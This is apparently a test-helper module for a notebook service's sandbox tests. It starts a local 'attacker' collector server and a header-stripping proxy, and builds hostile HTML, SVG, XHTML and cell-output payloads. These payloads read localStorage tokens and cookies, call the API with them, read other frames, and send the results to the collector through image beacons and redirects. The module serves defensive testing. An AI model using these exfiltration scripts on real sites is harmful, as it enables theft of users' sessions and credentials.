/**
 * Pages that try what a notebook's page must not get: what the browser keeps for our address, our API, our other pages. And
 * the two servers that show whether they did: one that they tell, and one that serves ours without what boxes them in.
 */

import { once } from 'node:events'
import { createServer, type RequestListener, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { TestContext } from 'node:test'

/** What a page told, by what it was about; the first word of each. */
export interface Collector {
  readonly url: string
  readonly told: Map<string, string>
}

async function listen(t: TestContext, handle: RequestListener): Promise<{ server: Server; url: string }> {
  const server = createServer(handle).listen(0, '127.0.0.1')
  t.after(() => {
    server.closeAllConnections()
    server.close()
  })
  await once(server, 'listening')
  // A server that listens on a port has an address with one.
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` }
}

/** A server of the attacker's: `/what?value` is a thing that was told. */
export async function startCollector(t: TestContext): Promise<Collector> {
  const told = new Map<string, string>()
  const { url } = await listen(t, (request, reply) => {
    const { pathname, search } = new URL(request.url ?? '', 'http://collector')
    const what = pathname.slice(1)
    if (!told.has(what)) told.set(what, decodeURIComponent(search.slice(1)))
    reply.writeHead(200, { 'access-control-allow-origin': '*', 'cache-control': 'no-store' }).end()
  })
  return { url, told }
}

/** Everything the service answers, without the headers that keep pages of it apart; what its pages tell goes elsewhere. */
export async function startUnboxed(t: TestContext, service: string, from: Collector, to: Collector): Promise<string> {
  const { url } = await listen(t, async (request, reply) => {
    const { authorization } = request.headers
    const answer = await fetch(service + request.url, { headers: authorization ? { authorization } : {} })
    const type = answer.headers.get('content-type') ?? 'text/plain'
    reply.writeHead(answer.status, { 'content-type': type })
    reply.end((await answer.text()).replaceAll(from.url, to.url))
  })
  return url
}

/** What the browser is made to keep for an address, as a console might keep it. */
export const PLANTED = { token: 'planted-token', cookie: 'session=planted-session' }

/** The script of an attack; it tells what it got, thing by thing, and why it got nothing. */
const script = (collector: string, attempts: Readonly<Record<string, string>>) => `
const tell = (what, value) => { new Image().src = '${collector}/' + what + '?' + encodeURIComponent(String(value).slice(0, 300)) }
const attempts = {${Object.entries(attempts).map(([what, code]) => `${JSON.stringify(what)}: async () => (${code})`)}}
for (const [what, attempt] of Object.entries(attempts)) attempt().then((got) => tell(what, got), (e) => tell(what + '-failed', e))
`

/** Reading what the browser keeps, and using it. `$` is the window whose powers are used. */
const readKept = {
  ran: 'self.origin',
  storage: `localStorage.getItem('token')`,
  cookie: 'document.cookie',
}
const callApi = {
  api: `(await fetch('/applications', { credentials: 'include', headers: { authorization: 'Bearer ' + localStorage.getItem('api') } })).text()`,
}
const loaded = (id: string) =>
  `await new Promise((done) => { const look = () => { const text = document.getElementById('${id}').contentDocument?.body?.innerText; text ? done(text) : setTimeout(look, 20) }; look() })`
const frameOthers = {
  framed: loaded('console'),
  other: loaded('other'),
  opened: `await new Promise((done) => { const w = open('/healthz'); const look = () => { const text = w.document?.body?.innerText; text ? done(text) : setTimeout(look, 20) }; look() })`,
}

/** What each page gets when nothing keeps it from it. */
export const SCRIPTED = [...Object.keys(readKept), ...Object.keys(callApi)]
export const FRAMED = Object.keys(frameOthers)
/** Requests that need no script. */
export const LOADED = ['img', 'css', 'import', 'background', 'embedded', 'video']

/** A page of HTML that tries all of it; `other` is the path of a result of somebody else's. */
export const hostileHtml = (collector: string, other: string) => `<!doctype html><title>Report</title>
<link rel="stylesheet" href="${collector}/css">
<style>@import "${collector}/import"; body { background: url(${collector}/background) }</style>
<p>Nothing to see here.</p><img src="${collector}/img" alt=""><embed src="${collector}/embedded"><video src="${collector}/video"></video>
<iframe id="console" src="/healthz"></iframe><iframe id="other" src="${other}"></iframe>
<script>${script(collector, { ...readKept, ...callApi, ...frameOthers })}</script>`

/** Pictures and documents of XML run scripts as well, when they are opened by themselves. */
export const hostileSvg = (collector: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg"><text y="20">Plot</text><script><![CDATA[${script(collector, { ...readKept, ...callApi })}]]></script></svg>`
export const hostileXhtml = (collector: string) =>
  `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Report</title></head><body><p>Text</p><script><![CDATA[${script(collector, { ...readKept, ...callApi })}]]></script></body></html>`

/**
 * The output of a cell, for a page whose own policy lets scripts draw and forbids them to load: what it got it tells by
 * going there, which no policy of a page keeps it from.
 */
export const hostileOutput = (collector: string) =>
  `<script>const got = {}; for (const [what, read] of [['storage', () => localStorage.getItem('token')], ['cookie', () => document.cookie]]) { try { got[what] = read() } catch (e) { got[what] = String(e) } } location.href = '${collector}/went?' + encodeURIComponent(JSON.stringify(got))</script>`

/** Without any script: the page goes somewhere by itself, taking a reader along. */
export const hostileRefresh = (collector: string) =>
  `<!doctype html><meta http-equiv="refresh" content="0;url=${collector}/refreshed"><p>Please wait.</p>`
